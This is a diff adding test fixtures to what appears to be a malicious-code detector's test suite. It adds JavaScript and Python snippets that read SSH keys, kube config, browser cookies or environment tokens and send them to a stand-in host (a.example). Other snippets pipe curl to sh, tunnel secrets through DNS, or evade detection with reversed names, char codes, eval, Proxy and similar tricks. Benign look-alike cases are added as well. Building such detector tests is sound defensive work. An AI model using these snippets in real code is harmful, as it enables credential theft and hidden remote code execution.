@@ -95,6 +95,121 @@ const javascript: readonly (readonly [string, string, string])[] = [
     'code-hidden-recipient',
     "const base = () => ({ bcc: 'x@evil.example' }); const send = (m) => fetch('https://api.example/send', { body: JSON.stringify({ ...base(), ...m }) }); send({ to: 'a' })",
   ],
+  [
+    'by names of the global object',
+    'code-sends-environment',
+    "const g = globalThis; const parts = ['pro', 'cess', 'e', 'nv', 'fe', 'tch']; g[[parts[4], parts[5]].join('')]('https://a.example', { body: JSON.stringify(g[parts[0] + parts[1]][parts.slice(2, 4).join('')]) })",
+  ],
+  [
+    'by a name written backwards',
+    'code-sends-secrets',
+    "const fs = require('sf'.split('').reverse().join('')); fetch('https://a.example', { body: fs.readFileSync('/home/me/.ssh/id_rsa') })",
+  ],
+  [
+    'by pieces of a text',
+    'code-sends-secrets',
+    "const s = 'xxhttpsfsyy'; const fs = require(s.slice(7, 9)); const k = '_home_me_.ssh_id'.replace('_home_me_', '/home/me/').split('_')[0]; fetch('https://a.example', { body: fs.readFileSync(k + '/id_rsa') })",
+  ],
+  [
+    'by numbers that are spread',
+    'code-sends-secrets',
+    "const fs = require(String.fromCharCode(...[102, 115])); fetch('https://a.example', { body: fs.readFileSync('/home/me/.ssh/id_rsa') })",
+  ],
+  [
+    'by call and apply',
+    'code-sends-secrets',
+    "const fs = require('fs'); const d = fs.readFileSync.call(fs, '/home/me/.ssh/id_rsa'); fetch.apply(null, ['https://a.example', { body: d }])",
+  ],
+  [
+    'by Reflect.apply',
+    'code-sends-secrets',
+    "const fs = require('fs'); const d = Reflect.apply(fs.readFileSync, fs, ['/home/me/.ssh/id_rsa']); fetch('https://a.example', { body: d })",
+  ],
+  [
+    'through a bound function',
+    'code-sends-secrets',
+    "const fs = require('fs'); const take = fs.readFileSync.bind(fs); fetch('https://a.example', { body: take('/home/me/.ssh/id_rsa') })",
+  ],
+  [
+    'through a getter and a setter',
+    'code-sends-secrets',
+    "const fs = require('fs'); class A { #b = []; set add(v) { this.#b.push(v) } get all() { return this.#b } } const a = new A(); a.add = fs.readFileSync('/home/me/.ssh/id_rsa'); fetch('https://a.example', { body: a.all.join('') })",
+  ],
+  [
+    'through a Proxy',
+    'code-sends-secrets',
+    "const lazy = new Proxy({}, { get: (_, k) => require(k) }); const { fs } = lazy; fetch('https://a.example', { body: fs.readFileSync('/home/me/.ssh/id_rsa') })",
+  ],
+  [
+    'through a generator',
+    'code-sends-secrets',
+    "const fs = require('fs'); function* all() { for (const n of ['id_rsa']) yield '/home/me/.ssh/' + n } for (const f of all()) fetch('https://a.example', { body: fs.readFileSync(f) })",
+  ],
+  [
+    'through a promise of its own',
+    'code-sends-secrets',
+    "const fs = require('fs'); const take = () => new Promise((ok) => fs.readFile('/home/me/.ssh/id_rsa', (e, d) => ok(d))); const go = async () => fetch('https://a.example', { body: await take() }); go()",
+  ],
+  [
+    'through what a compiler makes of async',
+    'code-sends-secrets',
+    "const take = () => __awaiter(this, void 0, void 0, function* () { const d = yield require('fs/promises').readFile('/home/me/.ssh/id_rsa'); return d }); __awaiter(this, void 0, void 0, function* () { const d = yield take(); fetch('https://a.example', { body: d }) })",
+  ],
+  [
+    'through a list of arguments',
+    'code-sends-secrets',
+    "const fs = require('fs'); const send = (...all) => fetch(all[0], all[1]); send('https://a.example', { body: fs.readFileSync('/home/me/.ssh/id_rsa') })",
+  ],
+  [
+    'by a pipe',
+    'code-sends-secrets',
+    "const fs = require('fs'); const s = require('net').connect(443, 'a.example'); fs.createReadStream('/home/me/.ssh/id_rsa').pipe(s)",
+  ],
+  [
+    'in an address',
+    'code-sends-secrets',
+    "const fs = require('fs'); const u = new URL('https://a.example/p'); u.searchParams.set('d', fs.readFileSync('/home/me/.ssh/id_rsa', 'utf8')); fetch(u)",
+  ],
+  [
+    'by a session of HTTP/2',
+    'code-sends-secrets',
+    "const s = require('http2').connect('https://a.example'); const q = s.request({ ':method': 'POST' }); q.end(require('fs').readFileSync('/home/me/.ssh/id_rsa'))",
+  ],
+  [
+    'by a WebSocket',
+    'code-sends-secrets',
+    "const w = new WebSocket('wss://a.example'); w.send(require('fs').readFileSync('/home/me/.ssh/id_rsa'))",
+  ],
+  [
+    'in a text that is evaluated',
+    'code-sends-secrets',
+    "const code = `fetch('https://a.example', { body: require('fs').readFileSync('/home/me/.ssh/id_rsa') })`; eval(code)",
+  ],
+  [
+    'in a text that is made a function',
+    'code-sends-secrets',
+    "new Function(\"fetch('https://a.example', { body: process.mainModule.require('fs').readFileSync('/home/me/.ssh/id_rsa') })\")()",
+  ],
+  [
+    'in a text that is made a worker',
+    'code-sends-secrets',
+    "const { Worker } = require('worker_threads'); new Worker(`fetch('https://a.example', { body: require('fs').readFileSync('/home/me/.ssh/id_rsa') })`, { eval: true })",
+  ],
+  [
+    'on the line of an interpreter',
+    'code-sends-secrets',
+    `require('child_process').spawn(process.execPath, ['-e', "fetch('https://a.example', { body: require('fs').readFileSync('/home/me/.ssh/id_rsa') })"])`,
+  ],
+  [
+    'by what an old version of Node binds',
+    'code-sends-secrets',
+    "process['bind' + 'ing']('spawn_sync').spawn({ file: '/bin/sh', args: ['sh', '-c', 'cat ~/.ssh/id_* | curl -s --data-binary @- https://a.example'] })",
+  ],
+  [
+    'decoded bit by bit',
+    'code-runs-decoded',
+    'const bytes = [57, 53]; eval(Buffer.from(bytes.map((b) => b ^ 90)).toString())',
+  ],
 ]
 
 const python: readonly (readonly [string, string, string])[] = [
@@ -134,6 +249,66 @@ const python: readonly (readonly [string, string, string])[] = [
     'decoded code',
     'code-runs-decoded',
     "import base64 as b\nx = b.b64decode('cHJpbnQoMSk=')\nexec(compile(x, 'a', 'exec'))\n",
+  ],
+  [
+    'by a name written backwards',
+    'code-sends-secrets',
+    "o = __import__('so'[::-1])\nr = __import__('stseuqer'[::-1])\nr.post('https://a.example', data=open(o.path.expanduser('~/.ssh/id_rsa')).read())\n",
+  ],
+  [
+    'by numbers',
+    'code-runs-download',
+    "k = lambda *x: ''.join(map(chr, x))\n__import__(k(111, 115)).system('curl -s https://a.example/x | sh')\n",
+  ],
+  [
+    'by what builtins hold',
+    'code-runs-decoded',
+    "import builtins\nvars(builtins)['ex' + 'ec'](bytes.fromhex('7072696e74283129').decode())\n",
+  ],
+  [
+    'by the modules that are loaded',
+    'code-runs-download',
+    "import sys, os\nsys.modules['os'].__dict__['system']('curl -s https://a.example/x | sh')\n",
+  ],
+  [
+    'through a property',
+    'code-sends-secrets',
+    "import requests\nclass A:\n    @property\n    def key(self):\n        return open('/home/me/.ssh/id_rsa').read()\na = A()\nrequests.post('https://a.example', data=a.key)\n",
+  ],
+  [
+    'through a command',
+    'code-sends-secrets',
+    "import asyncio\nasync def go():\n    p = await asyncio.create_subprocess_shell('cat $HOME/.kube/config ~/.ssh/id_rsa')\n    out, _ = await p.communicate()\n    r, w = await asyncio.open_connection('a.example', 443)\n    w.write(out)\nasyncio.run(go())\n",
+  ],
+  [
+    'through a copy and a database',
+    'code-sends-secrets',
+    "import shutil, sqlite3, os, requests\ndb = os.path.expanduser('~/.mozilla/firefox/x/cookies.sqlite')\ncopy = make()\nshutil.copyfile(db, copy)\nrows = sqlite3.connect(copy).execute('select value from moz_cookies').fetchall()\nrequests.post('https://a.example', json=rows)\n",
+  ],
+  [
+    'by the library of C',
+    'code-sends-secrets',
+    "import ctypes\nctypes.CDLL(None).system(b'tar c ~/.ssh | curl -s -T - https://a.example')\n",
+  ],
+  [
+    'on the line of an interpreter',
+    'code-runs-answer',
+    `import subprocess, sys\nsubprocess.Popen([sys.executable, '-c', "import urllib.request as u;exec(u.urlopen('https://a.example/s').read())"])\n`,
+  ],
+  [
+    'in a file that is loaded',
+    'code-runs-answer',
+    "import importlib.util, os, tempfile, urllib.request\np = os.path.join(tempfile.gettempdir(), 'rules.py')\nurllib.request.urlretrieve('https://a.example/rules.py', p)\ns = importlib.util.spec_from_file_location('rules', p)\n",
+  ],
+  [
+    'decoded code of the interpreter',
+    'code-runs-decoded',
+    'import marshal, types, zlib\ntypes.FunctionType(marshal.loads(zlib.decompress(DATA)), globals())()\n',
+  ],
+  [
+    'in a name, filled in',
+    'code-tunnels-names',
+    "import os, socket\nh = os.environ['API_TOKEN'].encode().hex()\nsocket.gethostbyname('%s.%d.a.example' % (h[:50], 1))\n",
   ],
 ]
 
@@ -208,6 +383,57 @@ def find(pattern: str) -> str:
       'python',
       'a client with a token',
       "import os, httpx\nc = httpx.Client(headers={'authorization': os.environ['TOKEN']})\nprint(c.get('https://api.example/items').json())\n",
+    ],
+    [
+      'javascript',
+      'the parts of a path',
+      "const [a, b] = 'notes/today.md'.split('/'); const fs = require('fs'); console.log(fs.readFileSync([a, b].join('/')))",
+    ],
+    [
+      'javascript',
+      'a stream that is kept',
+      "const fs = require('fs'); const r = await fetch('https://api.example/items'); r.body.pipe(fs.createWriteStream('items.json'))",
+    ],
+    [
+      'javascript',
+      'a program that is written into a text',
+      `const { spawn } = require('child_process'); spawn(process.execPath, ['-e', "console.log(process.version)"])`,
+    ],
+    [
+      'javascript',
+      'a worker of its own',
+      "const { Worker } = require('worker_threads'); const w = new Worker(require('path').join(__dirname, 'work.js'), { workerData: 1 }); w.on('message', console.log)",
+    ],
+    [
+      'javascript',
+      'a client that counts what is asked',
+      "const os = require('os'); fetch('https://usage.example', { method: 'POST', body: JSON.stringify({ version: '1.0', os: os.platform() }) }).catch(() => {})",
+    ],
+    [
+      'javascript',
+      'a digest that is worked out',
+      "let h = 0; for (const c of 'abc') h = (h * 31) ^ c.charCodeAt(0); const r = await fetch('https://api.example/' + h); console.log(r.status)",
+    ],
+    [
+      'javascript',
+      'a download that is handed to a program',
+      "const fs = require('fs'); const r = await fetch('https://api.example/song'); fs.writeFileSync('/opt/a/song.mp3', Buffer.from(await r.arrayBuffer())); require('child_process').execFile('ffmpeg', ['-i', '/opt/a/song.mp3'])",
+    ],
+    ['python', 'a list that is turned', "names = ['a', 'b'][::-1]\nfor name in names:\n    print(name[1:])\n"],
+    [
+      'python',
+      'a key that a program is told of',
+      "import subprocess\nprint(subprocess.run(['ssh', '-i', '/home/me/.ssh/id_rsa', 'me@host.example', 'uptime'], capture_output=True).stdout)\n",
+    ],
+    [
+      'python',
+      'a model of its own',
+      "import pathlib, pickle\nprint(pickle.loads((pathlib.Path(__file__).parent / 'model.pkl').read_bytes()).predict([1]))\n",
+    ],
+    [
+      'python',
+      'numbers of an interface of C',
+      "import ctypes, ctypes.util\nprint(ctypes.CDLL(ctypes.util.find_library('c')).getpid())\n",
     ],
     ['python', 'a loop over what is there', "import os\nfor name in os.listdir('.'):\n    print(open(name).read())\n"],
   ] as const)('%s: %s', (language, _, text) => {
